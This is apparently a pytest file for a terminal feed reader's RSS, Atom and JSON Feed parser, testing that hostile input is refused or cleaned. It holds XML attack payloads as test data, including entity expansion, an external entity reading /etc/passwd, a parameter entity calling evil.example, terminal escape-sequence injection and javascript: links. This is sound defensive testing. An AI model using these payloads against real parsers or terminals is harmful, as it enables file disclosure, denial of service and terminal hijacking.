"""What a feed says: RSS, Atom and JSON Feed, as they should be and as they are."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from termreader.errors import SourceError
from termreader.ingest.feed import looks_like_feed, parse_feed
from termreader.ingest.feed_article import item_article
from termreader.ingest.feed_links import feed_links
from termreader.ingest.feed_text import beginning, plain, unique
from termreader.ingest.sanitize import clean_line
from termreader.ingest.xml_check import check_xml
from termreader.ingest.xml_prolog import UnsafeXmlError, root_name, without_document_type
from termreader.model import FeedEntry, FeedItem
from tests.feeds import rss
from tests.shared import SHARED, needs_shared

URL = "https://llamas.example/feed"

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title type="html">The &lt;b&gt;Llama&lt;/b&gt; Times</title>
  <link rel="self" href="https://llamas.example/feed"/><link rel="alternate" href="https://llamas.example/"/>
  <entry>
    <id>tag:llamas.example,2024:1</id><title>Wool &amp; spit &lt;3</title>
    <link rel="alternate" href="/wool"/><updated>2024-05-29T10:00:00+02:00</updated>
    <author><name>Ann Author</name></author>
    <summary>Short.</summary>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Long <em>words</em>.</p></div></content>
  </entry>
</feed>"""

JSON_FEED = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "The Llama Times",
    "home_page_url": "https://llamas.example/",
    "items": [
        {
            "id": "1",
            "url": "/wool",
            "title": "Wool & <spit>",
            "content_html": "<p>Long <em>words</em>.</p>",
            "date_published": "2024-05-29T10:00:00+02:00",
            "authors": [{"name": "Ann"}, {"name": "Bob"}, 7],
        },
        {"id": 2, "external_url": "https://other.example/", "content_text": "One.\n\nTwo < three."},
        "nonsense",
    ],
}


def test_rss_gives_its_items() -> None:
    feed = parse_feed(rss(("https://llamas.example/1", "On “spit” & wool")), URL)
    assert (feed.title, feed.site_url, feed.notes) == ("The Llama Times", "https://llamas.example/", ())
    (entry,) = feed.entries
    assert (entry.guid, entry.url) == ("https://llamas.example/1", "https://llamas.example/1")
    assert entry.title == "On “spit” & wool"
    assert entry.published == "2024-05-29T08:00:00+00:00"
    assert entry.summary == "What On “spit” & wool says."
    assert entry.content == "<p>What On “spit” & wool says.</p>"


def test_atom_gives_its_entries() -> None:
    feed = parse_feed(ATOM.encode(), URL)
    assert (feed.title, feed.site_url) == ("The Llama Times", "https://llamas.example/")
    (entry,) = feed.entries
    assert (entry.guid, entry.url) == ("tag:llamas.example,2024:1", "https://llamas.example/wool")
    assert (entry.title, entry.author) == ("Wool & spit <3", "Ann Author")
    assert entry.published == "2024-05-29T08:00:00+00:00"
    assert entry.summary == "Short."
    assert "<em>words</em>" in entry.content


def test_json_feed_gives_its_items() -> None:
    feed = parse_feed(json.dumps(JSON_FEED).encode(), URL)
    assert (feed.title, feed.site_url) == ("The Llama Times", "https://llamas.example/")
    first, second = feed.entries
    assert (first.guid, first.url, first.title) == ("1", "https://llamas.example/wool", "Wool & <spit>")
    assert (first.author, first.published) == ("Ann, Bob", "2024-05-29T08:00:00+00:00")
    assert first.summary == "Long words."
    assert (second.guid, second.url, second.title) == ("2", "https://other.example/", "One. Two < three.")
    assert feed.notes == ("1 of its items are no items, and were left out.",)


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        ("AT&amp;amp;T", "AT&T"),
        ("&lt;b&gt;Bold&lt;/b&gt; words", "Bold words"),
        ("<![CDATA[<i>In</i> a section]]>", "In a section"),
        ("1 &lt; 2 and 3 &gt; 2", "1 < 2 and 3 > 2"),
        ("[/] [bold]", "[/] [bold]"),
        ("A&#27;]0;PWNED&#7;B", "AB"),
        ("\u202eevil", "evil"),
        ("", "What says."),
        ("x" * 3000, "x" * 999 + "…"),
    ],
)
def test_titles_are_lines_of_plain_clean_text(title: str, shown: str) -> None:
    data = rss(("https://llamas.example/1", "NAME")).decode().replace("<title>NAME", f"<title>{title}")
    (entry,) = parse_feed(data.replace("NAME", "").encode(), URL).entries
    assert entry.title == shown


def test_links_that_are_not_on_the_web_are_left_out_and_counted() -> None:
    feed = parse_feed(rss(("javascript:alert(1)", "One"), ("file:///etc/passwd", "Two"), ("/three", "Three")), URL)
    assert [entry.url for entry in feed.entries] == [None, None, "https://llamas.example/three"]
    assert feed.notes == ("2 items link to something that is not on the web; the link was left out.",)


def test_items_of_one_name_are_told_apart_unless_they_are_the_same() -> None:
    one, other = FeedEntry("x", "One", "https://a.example/1"), FeedEntry("x", "Other", "https://a.example/2")
    kept = list(unique([one, one, other, other]))
    assert [entry.title for entry in kept] == ["One", "Other"]
    assert len({entry.guid for entry in kept}) == 2


def test_items_without_a_name_keep_theirs_from_one_time_to_the_next() -> None:
    data = b"<rss version='2.0'><channel><item><title>A</title></item><item><title>B</title></item></channel></rss>"
    first, again = parse_feed(data, URL), parse_feed(data, URL)
    assert [entry.guid for entry in first.entries] == [entry.guid for entry in again.entries]
    assert len({entry.guid for entry in first.entries}) == 2


def test_what_is_broken_is_read_as_far_as_it_goes_and_said_to_be() -> None:
    broken = rss(("https://llamas.example/1", "One")).replace(b"</channel></rss>", b"<item><title>Two</title>")
    feed = parse_feed(broken, URL)
    assert [entry.title for entry in feed.entries] == ["One", "Two"]
    assert feed.notes == ("The feed is not well-formed; what can be read of it is here.",)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"   ",
        b"<!doctype html><html><body>No feed</body></html>",
        b"Some words.",
        b'{"version": "1"}',
        b"{",
        b'{"version":"https://jsonfeed.org/version/1","items":' + b"[" * 100_000,
        b"\x89PNG\r\n\x1a\n" + bytes(100),
    ],
)
def test_what_is_no_feed_is_said_to_be_none(data: bytes) -> None:
    with pytest.raises(SourceError, match=r"is not a feed|is empty"):
        parse_feed(data, URL)


@pytest.mark.parametrize(
    "data",
    [
        '<!DOCTYPE x [<!ENTITY a "'
        + "A" * 50_000
        + '">]><rss><channel><title>'
        + "&a;" * 20_000
        + "</title></channel></rss>",
        '<!-- <rss> --><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
        '<?x <rss> ?>junk<!doctype x [ <!entity % p SYSTEM "http://evil.example/">%p; ]><rss><channel></channel></rss>',
        "<rss><channel>" + "<item>" * 50_000,
        "<rss " + " ".join(f'a{number}="x"' for number in range(30_000)) + "></rss>",
        "<rss " + " ".join(f'a{number}="x"' for number in range(30_000)) + "></rs>",
        "<rss><channel><title>x</title>" + "<b>y" * 400_000,
    ],
    ids=["entities", "a file", "a parameter", "nesting", "attributes", "broken attributes", "big and broken"],
)
def test_what_is_built_to_harm_is_refused(data: str) -> None:
    with pytest.raises(SourceError, match="is refused: "):
        parse_feed(data.encode(), URL)


def test_an_ordinary_document_type_is_passed_over() -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape" "http://x.example/rss.dtd">' + rss(("/1", "One"))[38:]
    )
    assert [entry.title for entry in parse_feed(data, URL).entries] == ["One"]


@pytest.mark.parametrize(
    ("encoding", "declared"),
    [("utf-8", "utf-8"), ("utf-16", "utf-16"), ("cp1252", "windows-1252"), ("euc-kr", "euc-kr")],
)
def test_feeds_are_read_in_their_encoding(encoding: str, declared: str) -> None:
    word = "년" if encoding == "euc-kr" else "naïve “café”" if encoding == "cp1252" else "naïve 漢"
    text = rss(("/1", word)).decode().replace("utf-8", declared)
    assert parse_feed(text.encode(encoding), URL).entries[0].title == word


@pytest.mark.parametrize(
    ("begin", "is_feed"),
    [
        (b"<rss>", True),
        (b"\xef\xbb\xbf <?xml version='1.0'?><!-- <html> --><feed xmlns='http://www.w3.org/2005/Atom'>", True),
        (b"<rdf:RDF xmlns='http://purl.org/rss/1.0/'>", True),
        (b'{"version": "https://jsonfeed.org/version/1", "items": []}', True),
        ("<rss>".encode("utf-16"), True),
        (b"<!doctype html><html>", False),
        (b"<opml>", False),
        (b"<!-- <rss> -->", False),
        (b'{"a": 1}', False),
        (b"", False),
    ],
)
def test_a_feed_is_told_by_how_it_begins(begin: bytes, is_feed: bool) -> None:
    assert looks_like_feed(begin) is is_feed


@given(st.text(alphabet="<!-?>[]\"' aENTITYDOCrs/&;", max_size=60))
def test_no_document_type_survives_the_prolog(text: str) -> None:
    try:
        rest = without_document_type(text)
    except UnsafeXmlError:
        return
    assert rest == "" or root_name(rest) is not None
    assert text.endswith(rest)


@settings(max_examples=60)
@given(st.text(alphabet="<>/ab&;'\"=![]C-x \x1b\n", max_size=200))
def test_any_text_in_a_feed_ends_in_a_feed_or_a_sentence(text: str) -> None:
    data = f"<rss version='2.0'><channel><title>T</title><item><title>{text}</title><description>{text}"
    for end in ("", "</description></item></channel></rss>"):
        try:
            feed = parse_feed((data + end).encode(), URL)
        except SourceError:
            continue
        for entry in feed.entries:
            assert entry.title == clean_line(entry.title)
            assert entry.summary == clean_line(entry.summary)


@given(st.text(alphabet="<>/ab&;'\"=! scriptlg-", max_size=100))
def test_plain_text_is_one_clean_line_without_tags(html: str) -> None:
    text = plain(html)
    assert text == clean_line(text)
    assert len(beginning(html, 20)) <= 20


def test_what_is_not_seen_is_not_in_a_summary() -> None:
    html = "<style>x{}</style>One<br>two <script>alert(1)</script><!-- no -->th<b>r</b>ee &amp; four<p>five"
    assert plain(html) == "One two three & four five"


def test_sound_xml_passes_the_check() -> None:
    check_xml(ATOM.partition("?>")[2])


class TestArticle:
    item = FeedItem(1, 1, "The Llama Times", "Wool", "https://llamas.example/a/wool", "Ann", "2024-05-29", "")

    def test_is_made_of_the_feeds_own_text(self) -> None:
        article = item_article(
            self.item,
            '<p>Long <em>words</em>, <a href="../b">more</a>, <a href="javascript:x">none</a>.</p><script>1</script>',
        )
        assert article.markdown == "Long *words*, [more](https://llamas.example/b), none.\n"
        about = article.metadata
        assert (about.title, about.byline, about.site) == ("Wool", "Ann", "The Llama Times")
        assert (about.published, about.url) == ("2024-05-29", "https://llamas.example/a/wool")

    @pytest.mark.parametrize("html", ["", "  ", "<script>1</script>", "<p></p>"])
    def test_is_none_when_there_are_no_words(self, html: str) -> None:
        with pytest.raises(SourceError, match="gives no text for “Wool”"):
            item_article(self.item, html)

    def test_holds_nothing_that_a_terminal_obeys(self) -> None:
        article = item_article(self.item, "<p>A&#27;]0;PWNED&#7;B&#x9b;2JC</p>")
        assert "PWNED" not in article.markdown
        assert "\x1b" not in article.markdown


class TestLinksOfAPage:
    def test_are_found_with_their_titles_comments_last(self) -> None:
        page = b"""<html><head><base href="/blog/">
            <link rel="alternate" type="application/rss+xml" title="Comments &amp; more" href="comments.xml">
            <LINK REL="feed ALTERNATE" type="application/atom+xml; charset=utf-8" href="feed.xml">
            <link rel="alternate" type="application/feed+json" href="https://other.example/feed.json">
            <link rel="alternate" type="application/rss+xml" href="javascript:alert(1)">
            <link rel="alternate" type="application/json" href="/wp-json/posts/1">
            <link rel="alternate" hreflang="de" href="/de"><link rel="stylesheet" type="text/css" href="x.css">
        </head><body></body></html>"""
        assert feed_links(page, "https://llamas.example/a/b") == [
            ("https://llamas.example/blog/feed.xml", ""),
            ("https://other.example/feed.json", ""),
            ("https://llamas.example/blog/comments.xml", "Comments & more"),
        ]

    def test_are_none_in_nothing(self) -> None:
        assert feed_links(b"", URL) == []


@needs_shared
@pytest.mark.parametrize("name", sorted(path.name for path in (SHARED / "formats" / "feeds").glob("*.xml")))
def test_every_feed_at_hand_is_read(name: str) -> None:
    feed = parse_feed((SHARED / "formats" / "feeds" / name).read_bytes(), URL)
    assert feed.title
    for entry in feed.entries:
        assert entry.title
        assert entry.title == clean_line(entry.title)


@needs_shared
@pytest.mark.parametrize(
    ("name", "title"), [("a24-c1-in-rss-title.xml", "A›2JB"), ("e08-atom-html-payload.atom", "[/]")]
)
def test_hostile_feeds_come_out_clean(name: str, title: str) -> None:
    feed = parse_feed((SHARED / "hostile" / name).read_bytes(), URL)
    assert feed.title == title
    assert all(entry.url is None or entry.url.startswith("http") for entry in feed.entries)
    assert not any(
        ord(char) < 32 or 127 <= ord(char) < 160 for entry in feed.entries for char in entry.title + entry.summary
    )


@needs_shared
@pytest.mark.parametrize("name", ["e02-quadratic-blowup.xml", "e03-xxe-file.rss"])
def test_hostile_document_types_are_refused(name: str) -> None:
    with pytest.raises(SourceError, match="it declares entities"):
        parse_feed((SHARED / "hostile" / name).read_bytes(), URL)
